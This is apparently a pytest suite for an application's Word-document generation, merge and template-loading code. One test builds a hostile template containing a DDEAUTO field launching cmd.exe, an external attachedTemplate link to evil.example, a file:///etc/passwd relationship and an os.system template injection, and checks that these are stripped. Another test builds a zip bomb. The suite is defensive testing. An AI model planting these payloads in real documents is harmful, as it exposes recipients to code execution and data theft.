"""Word files: cleaned, well-formed, in named styles; templates of strangers are disarmed."""

import io
import runpy
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.documents import word
from app.documents.files import write as write_file
from app.documents.text import clean, file_stem, one_line
from app.documents.word_merge import merge
from app.documents.word_open import find_template, open_template
from app.errors import BadInputError
from tests.documents.schema import schema_errors, validator

SCRIPT = Path(__file__).resolve().parents[2] / "packaging" / "build_templates.py"
HOSTILE = (
    "Zoë Ångström-Łukasiewicz",
    "שלום עולם",
    "محمد \u202eأحمد",
    "🏭👩‍🔬 Ops",
    "x" * 200,
    "a\x00b\x07c\x1bd\ufffe",
    '<w:t>&amp;</w:t> ]]> "quoted" \'n',
    "{{ title }} **no** [x](y)",
    "line\r\nbreak\rend",
)


def reread(document: Any) -> Any:
    return docx.Document(io.BytesIO(word.to_bytes(document)))


def words_of(document: Any) -> list[str]:
    return [paragraph.text for paragraph in document.paragraphs]


def sample() -> Any:
    document = word.new_document(properties=word.Properties("Plan", "Me", account="Northmill", date="22 Nov"))
    word.add_title(document, "Plan", "For the press section")
    word.add_heading(document, "Why", 2)
    word.add_markdown(
        document, "A **b** *c* [d](https://a.b/?c=1&d=2)\n\n1. x\n  1. y\n2. z\n\nagain\n\n1. w\n\n- p\n\n> q"
    )
    word.add_bullets(document, ["one", "two"])
    word.add_table(
        document, ["When", "EUR"], [["Now", "1"], ["Sum", "1"]], [2, 1], ["left", "right"], total=True
    )
    word.add_note(document, "Source: none")
    return document


def test_a_column_is_wide_enough_for_its_longest_word() -> None:
    document = word.new_document()
    rows = [["The frame is worn at the tending side and nobody has measured it", "Resources", "1"]]
    shares = [10, 1, 1]
    table = word.add_table(document, ["Risk", "Type", "No."], rows, shares)
    whole = sum(column.width or 0 for column in table.columns)
    text, kind, number = (column.width or 0 for column in table.columns)
    assert kind > whole / sum(shares)
    assert text > kind > number
    narrow = word.add_table(document, ["a" * 40] * 30, [["b"] * 30])
    assert len({column.width for column in narrow.columns}) == 1


def test_a_folder_is_no_file_to_write(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match="is a folder"):
        word.save(word.new_document(), tmp_path)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_survive_in_every_place(text: str) -> None:
    document = word.new_document(properties=word.Properties(text, text, text, text, text, text))
    word.add_title(document, text, text)
    word.add_heading(document, text)
    word.add_paragraph(document, text)
    word.add_table(document, [text], [[text]])
    again = reread(document)
    assert clean(text) in words_of(again)
    assert again.tables[0].cell(1, 0).text == clean(text)
    assert again.core_properties.title == one_line(text)
    assert one_line(text).split()[0] in again.sections[0].header.paragraphs[0].text


@given(st.text(max_size=80))
@settings(max_examples=30, deadline=None)
def test_any_text_gives_a_file_that_opens(text: str) -> None:
    document = word.new_document(properties=word.Properties(text))
    word.add_paragraph(document, text)
    word.add_markdown(document, text)
    assert clean(text) in words_of(reread(document))


def test_named_styles_and_lists_that_count_from_one() -> None:
    document = reread(sample())
    styles = {paragraph.style.name for paragraph in document.paragraphs}
    assert {
        "Dealwright Title",
        "Dealwright Body",
        "Heading 2",
        "Dealwright Number",
        "Dealwright Quote",
    } <= styles
    numbers = {
        p.text: p._p.pPr.numPr.numId.val for p in document.paragraphs if p.text in {"x", "y", "z", "w"}
    }
    assert numbers["x"] == numbers["y"] == numbers["z"] != numbers["w"]
    assert document.tables[0].style.name == "Dealwright Table"
    assert document.sections[0].page_width.cm == pytest.approx(21.0, abs=0.01)
    assert document.sections[0].header.paragraphs[0].text == "Northmill\t22 Nov"


def test_a_company_template_without_our_styles_will_do(tmp_path: Path) -> None:
    docx.Document().save(str(tmp_path / "own.docx"))
    document = word.new_document(tmp_path / "own.docx", word.Properties("Plan"))
    word.add_title(document, "Plan")
    word.add_markdown(document, "# A\n\n- b\n\n1. c\n\n[d](https://a.b)")
    word.add_table(document, ["a"], [["b"]])
    styles = {paragraph.text: paragraph.style.name for paragraph in reread(document).paragraphs}
    assert styles["Plan"] == "Title"
    assert styles["b"] == "List Bullet"


def _split(template: Any, *pieces: str) -> None:
    paragraph = template.add_paragraph()
    for piece in pieces:
        paragraph.add_run(piece)


def test_fields_are_found_across_runs_and_values_are_never_fields() -> None:
    document = docx.Document()
    _split(document, "Dear {", "{ na", "me }", "} and {{ who }}!", " Bye {{name}}")
    unknown = merge(document, {"name": "{{ who }}\nA & B", "who": "all"})
    assert unknown == ()
    assert words_of(document) == ["Dear {{ who }}\nA & B and all! Bye {{ who }}\nA & B"]


def test_an_unknown_field_is_a_red_mark_and_listed() -> None:
    document = docx.Document()
    _split(document, "a {{ no", "pe }} b\t{{ yes }} {{ nope }} {{ nix }}")
    assert merge(document, {"yes": "1"}) == ("nope", "nix")
    assert words_of(document) == ["a {{ nope }} b\t1 {{ nope }} {{ nix }}"]
    marked = [run for run in document.paragraphs[0].runs if run.font.color.rgb is not None]
    assert [run.text for run in marked] == ["{{ nope }}", "{{ nope }}", "{{ nix }}"]
    assert str(marked[0].font.color.rgb) == "B3261E"


def test_rows_repeat_and_blocks_become_paragraphs() -> None:
    document = docx.Document()
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Name"
    table.cell(1, 0).text = "{{ each people }}{{ name }}"
    table.cell(1, 1).text = "{{ role }}, {{ firm }}"
    document.add_paragraph("{{ letter }}")
    unknown = merge(
        document,
        {"firm": "F"},
        {"letter": "Hi **you**\n\n- a\n- b"},
        {"people": [{"name": "A", "role": "r"}, {"name": "B", "role": "s", "firm": "G"}]},
    )
    assert unknown == ()
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["Name", ""],
        ["A", "r, F"],
        ["B", "s, G"],
    ]
    assert words_of(document) == ["Hi you", "a", "b"]


def test_rows_of_nothing_and_of_an_unknown_list() -> None:
    document = docx.Document()
    document.add_table(rows=1, cols=1).cell(0, 0).text = "{{ each none }}{{ x }}"
    document.add_table(rows=1, cols=1).cell(0, 0).text = "{{ each what }}"
    assert merge(document, {}, {}, {"none": []}) == ("what",)
    assert len(document.tables) == 1


def test_a_template_neither_runs_nor_fetches_anything(tmp_path: Path) -> None:
    evil = docx.Document()
    part = evil.part
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    part.relate_to("file:///etc/passwd", f"{kind}/hyperlink", is_external=True)
    part.relate_to("https://tracker.example/x.png", f"{kind}/image", is_external=True)
    part.relate_to("https://evil.example/t.dotm", f"{kind}/attachedTemplate", is_external=True)
    good = part.relate_to("https://ok.example", f"{kind}/hyperlink", is_external=True)
    run = evil.add_paragraph("x").add_run()
    code = run._r.makeelement("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instrText")
    code.text = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
    run._r.append(code)
    evil.add_paragraph("{{ __import__('os').system('x') }} {% set x = 1 %}")
    evil.save(str(tmp_path / "evil.docx"))
    document = open_template(tmp_path / "evil.docx")
    external = [link.target_ref for link in document.part.rels.values() if link.is_external]
    assert external == ["https://ok.example"]
    assert good in document.part.rels
    assert "DDEAUTO" not in document.part.element.xml
    merge(document, {})
    assert "system('x')" in words_of(document)[1]


@pytest.mark.parametrize("content", [b"", b"no zip", b"PK\x03\x04broken"])
def test_what_is_no_word_document_is_refused_in_one_sentence(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "x.docx").write_bytes(content)
    with pytest.raises(BadInputError, match=r"^“x.docx” is no Word document \(.docx\)\.$"):
        open_template(tmp_path / "x.docx")
    with pytest.raises(BadInputError, match=r"^“y.docx” cannot be read: "):
        open_template(tmp_path / "y.docx")


def test_a_bomb_is_refused(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "bomb.docx", "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("word/document.xml", b"0" * (81 * 2**20))
    with pytest.raises(BadInputError, match="too large"):
        open_template(tmp_path / "bomb.docx")


def test_files_are_written_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    write_file(path, b"one")
    write_file(path, b"two")
    assert path.read_bytes() == b"two"
    with pytest.raises(BadInputError, match=r"“b.txt” could not be written: "):
        write_file(tmp_path / "nowhere" / "b.txt", b"x")
    with pytest.raises(BadInputError):
        write_file(tmp_path, b"x")
    assert [entry.name for entry in tmp_path.iterdir()] == ["a.txt"]


@pytest.mark.parametrize(
    ("text", "stem"),
    [("A/B: c*", "A B c"), ("..", "document"), ("x" * 99, "x" * 80), ("Åsa\n🏭", "Åsa 🏭"), ("", "document")],
)
def test_file_names(text: str, stem: str) -> None:
    assert file_stem(text) == stem


def test_the_templates_are_what_the_script_builds(tmp_path: Path) -> None:
    runpy.run_path(str(SCRIPT))["write"](tmp_path)
    for built in tmp_path.iterdir():
        with zipfile.ZipFile(built) as new, zipfile.ZipFile(find_template(built.name)) as kept:
            assert {name: new.read(name) for name in new.namelist()} == {
                name: kept.read(name) for name in kept.namelist()
            }


@pytest.mark.openxml
@pytest.mark.skipif(validator() is None, reason="Microsoft's validator is not installed")
def test_a_document_is_valid_in_words_schema(tmp_path: Path) -> None:
    document = sample()
    for text in HOSTILE:
        word.add_paragraph(document, text)
    word.save(document, tmp_path / "plan.docx")
    assert schema_errors(tmp_path / "plan.docx") == []
    letter = word.new_document(find_template("champion_letter.docx"), word.Properties("T"))
    merge(letter, {"to": "a\nb"}, {"thanks": "a\n\n- b", "goals": "1. c"})
    word.save(letter, tmp_path / "letter.docx")
    assert schema_errors(tmp_path / "letter.docx") == []


@pytest.mark.libreoffice
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_it(tmp_path: Path) -> None:
    word.save(sample(), tmp_path / "plan.docx")
    command = [
        "soffice",
        f"-env:UserInstallation=file://{tmp_path}/profile",
        "--headless",
        "--convert-to",
        "pdf",
    ]
    subprocess.run(
        [*command, "--outdir", str(tmp_path), str(tmp_path / "plan.docx")],
        check=True,
        capture_output=True,
        timeout=180,
    )
    assert (tmp_path / "plan.pdf").read_bytes().startswith(b"%PDF")
